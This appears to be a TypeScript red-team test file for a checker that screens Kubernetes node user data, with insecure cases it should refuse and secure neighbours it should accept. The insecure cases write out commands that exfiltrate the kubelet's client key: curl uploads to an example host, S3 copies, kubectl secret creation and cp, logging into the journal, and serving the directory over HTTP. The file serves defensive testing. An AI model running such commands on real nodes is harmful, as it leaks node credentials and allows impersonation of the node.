// Red-team round 47 on EKS NODE user data (fresh eyes): round 46's fixes (keepers allowlist rootReads.ts
// NODE_SECRET_KEEPERS/keepsNodeSecrets, the aws CLI read by position, launchers shell.ts WRAPPERS, node_exporter,
// the fail-closed all-address listen rule userData.ts unreadListeners) against node user data careful teams write.
// Probed: keepers that send or print what they read (logger -f, kubectl create secret --from-file / kubectl cp,
// diff, a bind mount into /var/log), curl/aws/servers behind launchers (timeout, flock, nice, runuser, xargs), the aws
// CLI with global options before the service and `-` as a source, sed -i on the kubelet's kubeconfig (custom AMIs);
// and the secure neighbours: node_exporter with its
// documented filesystem exclusion regex naming the kubelet's mounts and behind systemd-run, kubectl under timeout and
// flock, iperf3 as nobody, old rotated certificates cleaned by find | xargs rm.
// Misses are `skip: true` (it.skip) with a MISS comment and the doc checked.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

const script = devNodeScript;

/** The kubelet's client certificate and key (one PEM file, rotated by the kubelet). */
const KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
/** The kubelet's kubeconfig (names KEY as its client certificate and key). */
const KUBECONFIG = "/var/lib/kubelet/kubeconfig";
/** An inventory endpoint outside the node. */
const INVENTORY = "https://inventory.example.com/nodes";

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 47): (insecure accepted) logger(1) -f/--file logs the file's content (util-linux logger(1): "-f, --file file Log the
    // contents of the specified file"; IBM AIX/Oracle logger docs: "-f File ... each line of the File variable is logged"),
    // so the kubelet's client key lands in the journal, which AL2023 keeps under /var/log/journal (AWS AL2023 user guide
    // "journald": systemd-journal is the default, no rsyslog), a directory the pack lets log-shipper pods mount: they act
    // as the node. logger is in rootReads.ts INERT_COMMANDS, so keepsNodeSecrets never asks. Fix: read logger's -f/--file
    // (and standard input) as a write into /var/log.
    dev(
        "logger -t kubelet-pki -f the kubelet's key (logger(1) -f logs the file's content to the journal)",
        script("dev-logger-file-key-nodes", [`logger -t kubelet-pki -f ${KEY}`]),
        /./,
    ),
    // Was a MISS (fixed in round 47): (insecure accepted) openssl pkey prints the private key (openssl-pkey(1): the key is written to standard
    // output unless -noout), and logger logs its standard input line by line (logger(1): "If no message is given, log
    // standard input"): the key goes to the journal under /var/log (as above). Round 46 refused `echo "$key"`; the pipe into
    // logger is not followed because logger is inert. Fix: treat a pipe into logger/systemd-cat as a write into /var/log.
    dev(
        "openssl pkey -in the kubelet's key | logger -t kubelet-pki (the private key piped into the journal)",
        script("dev-openssl-pkey-logger-key-nodes", [`openssl pkey -in ${KEY} | logger -t kubelet-pki`]),
        /./,
    ),
    // Was a MISS (fixed in round 47): (insecure accepted) `kubectl create secret generic --from-file=KEY=PATH` uploads the file's content as a
    // Secret (kubernetes.io kubectl reference, "kubectl create secret generic": "the value will default to the file
    // content"), so every principal reading Secrets in kube-system gets the kubelet's client key and acts as the node.
    // kubectl is in NODE_SECRET_KEEPERS as if it only read its kubeconfig. Fix: keep kubectl a keeper only for
    // --kubeconfig/--client-key/--client-certificate/--certificate-authority values; --from-file/--from-env-file, -f, cp.
    dev(
        "kubectl --kubeconfig inventory.kubeconfig create secret generic --from-file=the kubelet's key (the key uploaded as a Secret)",
        script("dev-kubectl-secret-from-file-key-nodes", [
            `kubectl --kubeconfig /etc/kubernetes/inventory.kubeconfig -n kube-system create secret generic "node-$(hostname)" --from-file=client.pem=${KEY}`,
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 47): (insecure accepted) `kubectl cp LOCAL NS/POD:PATH` copies a local file into a container (kubernetes.io kubectl
    // reference, "kubectl cp": "Copy files and directories to and from containers"), so the key lands in a pod the
    // monitoring namespace runs: whoever execs into or runs as it acts as the node. Same fix as above.
    dev(
        "kubectl cp the kubelet's key into a pod (kubectl cp uploads a local file into a container)",
        script("dev-kubectl-cp-key-nodes", [
            `kubectl --kubeconfig /etc/kubernetes/inventory.kubeconfig cp ${KEY} monitoring/inventory-0:/tmp/kubelet-client.pem`,
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 47): (insecure accepted) diff prints the lines that differ (GNU diffutils manual, "Unified Format": each added line
    // prefixed with +), so `diff -u /dev/null KEY` prints the whole key to cloud-init's output log under /var/log, which
    // log-shipper pods may read (round 46 refused `echo "$key"` for this). diff is in NODE_SECRET_KEEPERS (only cmp
    // prints no content). Fix: judge diff as a SECRET_PRINTER (its output where it goes), keep cmp and `diff -q`.
    dev(
        "diff -u the kubelet's key against /dev/null (diff prints every line of the key to cloud-init's log)",
        script("dev-diff-key-nodes", [`diff -u /dev/null ${KEY} || true`]),
        /./,
    ),
    dev(
        "mount --bind /var/lib/kubelet/pki /var/log/kubelet-pki (the key directory where log shippers read)",
        script("dev-mount-bind-pki-log-nodes", [
            "mkdir -p /var/log/kubelet-pki",
            "mount --bind -o ro /var/lib/kubelet/pki /var/log/kubelet-pki",
        ]),
        /mounts \/var\/lib\/kubelet\/pki at \/var\/log\/kubelet-pki/,
    ),
    dev(
        "timeout 30 curl -sS -T the kubelet's key (an upload behind timeout)",
        script("dev-timeout-curl-t-key-nodes", [`timeout 30 curl -sS -T ${KEY} ${INVENTORY}`]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem/,
    ),
    dev(
        "flock /run/lock/inventory.lock curl -sS -T the kubelet's key (an upload behind flock)",
        script("dev-flock-curl-t-key-nodes", [`flock /run/lock/inventory.lock curl -sS -T ${KEY} ${INVENTORY}`]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem/,
    ),
    dev(
        "find /var/lib/kubelet/pki -name '*.pem' -print0 | xargs -0 -I{} curl -sS -T {} (uploads through xargs)",
        script("dev-find-xargs-curl-key-nodes", [
            `find /var/lib/kubelet/pki -name '*.pem' -print0 | xargs -0 -I{} curl -sS -T {} ${INVENTORY}/`,
        ]),
        /hands \/var\/lib\/kubelet\/pki/,
    ),
    dev(
        "aws --region eu-west-1 s3 cp the kubelet's key s3://node-backups/ (a global option before the service)",
        script("dev-aws-global-region-key-nodes", [`aws --region eu-west-1 s3 cp ${KEY} s3://node-backups/k.pem`]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
    ),
    dev(
        "aws s3 cp - s3://node-backups/k.pem < the kubelet's key (standard input as the source)",
        script("dev-aws-stdin-key-nodes", [`aws s3 cp - s3://node-backups/k.pem < ${KEY}`]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
    ),
    dev(
        "aws s3 sync /var/lib/kubelet/pki s3://node-backups/pki/ --exclude '*.tmp'",
        script("dev-aws-sync-pki-nodes", ["aws s3 sync /var/lib/kubelet/pki s3://node-backups/pki/ --exclude '*.tmp'"]),
        /hands \/var\/lib\/kubelet\/pki.*to aws/,
    ),
    dev(
        "nice -n 19 python3 -m http.server 8080 --directory /var/lib/kubelet (a file server behind nice)",
        script("dev-nice-http-server-kubelet-nodes", [
            "nohup nice -n 19 python3 -m http.server 8080 --directory /var/lib/kubelet >/dev/null 2>&1 &",
        ]),
        /serves \/var\/lib\/kubelet /,
    ),
    dev(
        "script_exporter --web.listen-address=:9469 (runs configured scripts per request; the pack cannot read it)",
        script("dev-script-exporter-nodes", [
            "nohup /usr/local/bin/script_exporter --config.file=/etc/script_exporter.yml --web.listen-address=:9469 >/dev/null 2>&1 &",
        ]),
        /script_exporter, a program the pack does not read/,
    ),
    // DECIDED-style (refused for its edit, the pack cannot judge an in-place edit of the kubelet's kubeconfig). NOTE: the
    // pack also reports `sed -i` as printing the kubeconfig into cloud-init's log, which it does not (GNU sed manual,
    // -i: "edit files in place"; output goes to the file): secretPrintedBy should not count sed -i without p/w.
    dev(
        "sed -i s,CLUSTER_NAME,dev-validators,g the kubelet's kubeconfig (a custom AMI's template filled in place)",
        script("dev-sed-i-kubeconfig-ok-nodes", [`sed -i "s,CLUSTER_NAME,dev-validators,g" ${KUBECONFIG}`]),
        /edits \/var\/lib\/kubelet\/kubeconfig/,
    ),
    // Neighbours of the round-47 user fix (shell.ts WRAPPERS `user`): the launchers that keep root.
    dev(
        "runuser -u root -- iperf3 -s -B 0.0.0.0 -D (root stays root)",
        script("dev-iperf3-runuser-root-nodes", ["runuser -u root -- iperf3 -s -B 0.0.0.0 -D"]),
        /does not read/,
    ),
    dev(
        "sudo -u '#0' iperf3 -s -B 0.0.0.0 -D (uid 0 by number)",
        script("dev-iperf3-sudo-uid0-nodes", ["sudo -u '#0' iperf3 -s -B 0.0.0.0 -D"]),
        /does not read/,
    ),
    dev(
        "setpriv --ruid=nobody iperf3 -s -B 0.0.0.0 -D (only the real uid: the effective one stays 0)",
        script("dev-iperf3-setpriv-ruid-nodes", ["setpriv --ruid=nobody iperf3 -s -B 0.0.0.0 -D"]),
        /does not read/,
    ),
    dev(
        "start-stop-daemon --start --user nobody --exec /usr/bin/iperf3 (--user only matches processes: root runs it)",
        script("dev-iperf3-ssd-user-match-nodes", [
            "start-stop-daemon --start --user nobody --exec /usr/bin/iperf3 -- -s -B 0.0.0.0 -D",
        ]),
        /does not read/,
    ),
    dev(
        "runuser -u nobody -- sudo iperf3 -s -B 0.0.0.0 -D (the innermost launcher, sudo, runs it as root)",
        script("dev-iperf3-runuser-sudo-nodes", ["runuser -u nobody -- sudo iperf3 -s -B 0.0.0.0 -D"]),
        /does not read/,
    ),
];

const secure: NodeCase[] = [
    dev(
        "node_exporter --web.listen-address=:9100 --collector.filesystem.mount-points-exclude naming var/lib/kubelet/.+",
        script("dev-node-exporter-exclude-ok-nodes", [
            "nohup /usr/local/bin/node_exporter --web.listen-address=:9100 " +
                "'--collector.filesystem.mount-points-exclude=^/(dev|proc|sys|run/containerd/.+|var/lib/kubelet/.+)($|/)' >/dev/null 2>&1 &",
        ]),
    ),
    dev(
        "node_exporter --collector.filesystem.mount-points-exclude '^/var/lib/kubelet/pods/.+' (the value as its own word)",
        script("dev-node-exporter-exclude-word-ok-nodes", [
            "nohup /usr/local/bin/node_exporter --web.listen-address=:9100 " +
                "--collector.filesystem.mount-points-exclude '^/(dev|proc|sys|var/lib/kubelet/pods/.+)($|/)' >/dev/null 2>&1 &",
        ]),
    ),
    dev(
        "systemd-run --unit=node-exporter -p DynamicUser=yes node_exporter --web.listen-address=:9100 (a transient service)",
        script("dev-systemd-run-node-exporter-ok-nodes", [
            "systemd-run --unit=node-exporter -p DynamicUser=yes /usr/local/bin/node_exporter --web.listen-address=:9100",
        ]),
    ),
    dev(
        "node_exporter --collector.textfile.directory=/var/lib/node_exporter/textfile_collector --web.listen-address=0.0.0.0:9100",
        script("dev-node-exporter-textfile-ok-nodes", [
            "mkdir -p /var/lib/node_exporter/textfile_collector",
            "nohup /usr/local/bin/node_exporter --collector.textfile.directory=/var/lib/node_exporter/textfile_collector " +
                "--web.listen-address=0.0.0.0:9100 >/dev/null 2>&1 &",
        ]),
    ),
    dev(
        "timeout 300 kubectl --kubeconfig the kubelet's kubeconfig wait --for=condition=Ready node/$(hostname)",
        script("dev-timeout-kubectl-wait-ok-nodes", [
            `timeout 300 kubectl --kubeconfig ${KUBECONFIG} wait --for=condition=Ready "node/$(hostname)" --timeout=290s &`,
        ]),
    ),
    dev(
        "flock /run/lock/node-label.lock kubectl --kubeconfig the kubelet's kubeconfig get node (a keeper behind flock)",
        script("dev-flock-kubectl-ok-nodes", [
            `flock -w 60 /run/lock/node-label.lock kubectl --kubeconfig ${KUBECONFIG} get node "$(hostname)" -o name`,
        ]),
    ),
    dev(
        "find /var/lib/kubelet/pki -name 'kubelet-client-2*.pem' -mtime +30 -print0 | xargs -0 -r rm -f (old rotated certificates)",
        script("dev-find-xargs-rm-pki-ok-nodes", [
            "find /var/lib/kubelet/pki -name 'kubelet-client-2*.pem' -mtime +30 -print0 | xargs -0 -r rm -f",
        ]),
    ),
    dev(
        "openssl verify -CAfile /etc/kubernetes/pki/ca.crt the kubelet's client certificate | logger (a verdict only)",
        script("dev-openssl-verify-logger-ok-nodes", [
            `openssl verify -CAfile /etc/kubernetes/pki/ca.crt ${KEY} | logger -t kubelet-cert || true`,
        ]),
    ),
    dev(
        "openssl x509 -noout -fingerprint -sha256 -in the kubelet's client certificate (printed to cloud-init's log)",
        script("dev-openssl-fingerprint-ok-nodes", [`openssl x509 -noout -fingerprint -sha256 -in ${KEY}`]),
    ),
    dev(
        "aws --region eu-west-1 s3 cp s3://node-tools/node_exporter /usr/local/bin/node_exporter (a download, global option first)",
        script("dev-aws-global-download-ok-nodes", [
            "aws --region eu-west-1 s3 cp s3://node-tools/node_exporter /usr/local/bin/node_exporter",
            "chmod 0755 /usr/local/bin/node_exporter",
        ]),
    ),
    dev(
        "runuser -u nobody -- python3 -m http.server 8080 --directory /opt/models --bind 0.0.0.0 (a model cache as nobody)",
        script("dev-runuser-http-models-ok-nodes", [
            "mkdir -p /opt/models",
            "nohup runuser -u nobody -- python3 -m http.server 8080 --directory /opt/models --bind 0.0.0.0 >/dev/null 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 47): (secure refused) runuser -u nobody runs iperf3 as nobody (util-linux runuser(1): "run a command with
    // substitute user and group ID", `-u user`), yet the fail-closed rule says "has root run iperf3": commandListeners is
    // called with root=true whatever runuser/setpriv/sudo -u change (round 35 decided non-root listeners clean). iperf3
    // serves no file, shell or proxy. Teams lose network benchmarks on nodes. Fix: pass root=false when a WRAPPER drops to
    // a named non-root user (runuser -u, setpriv --reuid, sudo -u, systemd-run -p User=/DynamicUser=yes).
    dev(
        "iperf3 -s -B 0.0.0.0 -D under runuser -u nobody (a network benchmark server as nobody)",
        script("dev-iperf3-nobody-ok-nodes", ["dnf install -y iperf3", "runuser -u nobody -- iperf3 -s -B 0.0.0.0 -D"]),
        /./,
    ),
    // Neighbours of the fix (shell.ts WRAPPERS `user`): other launchers dropping to a named non-root user.
    dev(
        "setpriv --reuid=nobody --regid=nobody --clear-groups iperf3 -s -B 0.0.0.0 -D (both uids nobody)",
        script("dev-iperf3-setpriv-ok-nodes", [
            "setpriv --reuid=nobody --regid=nobody --clear-groups iperf3 -s -B 0.0.0.0 -D",
        ]),
    ),
    dev(
        "systemd-run -p DynamicUser=yes iperf3 -s -B 0.0.0.0 (a dynamic user, never root)",
        script("dev-iperf3-dynamicuser-ok-nodes", [
            "systemd-run --unit=iperf3 -p DynamicUser=yes iperf3 -s -B 0.0.0.0",
        ]),
    ),
    dev(
        "sudo -u nobody iperf3 -s -B 0.0.0.0 -D and chroot --userspec=nobody:nobody / iperf3 (as nobody)",
        script("dev-iperf3-sudo-chroot-ok-nodes", [
            "sudo -u nobody iperf3 -s -B 0.0.0.0 -D",
            "chroot --userspec=nobody:nobody / /usr/bin/iperf3 -s -p 5202 -B 0.0.0.0 -D",
        ]),
    ),
    dev(
        "start-stop-daemon --start --chuid nobody --exec /usr/bin/iperf3 -- -s -B 0.0.0.0 -D (as nobody)",
        script("dev-iperf3-ssd-chuid-ok-nodes", [
            "start-stop-daemon --start --chuid nobody --exec /usr/bin/iperf3 -- -s -B 0.0.0.0 -D",
        ]),
    ),
    dev(
        "chmod 0600 and restorecon -R on /var/lib/kubelet/pki (hardening the key's mode and label)",
        script("dev-chmod-restorecon-pki-ok-nodes", [`chmod 0600 ${KEY}`, "restorecon -R /var/lib/kubelet/pki"]),
    ),
];

describeNodeCases(
    "red team round 47: secure node user data against round 46's keepers, aws, launcher and listen rules (fresh eyes)",
    insecure,
    secure,
);
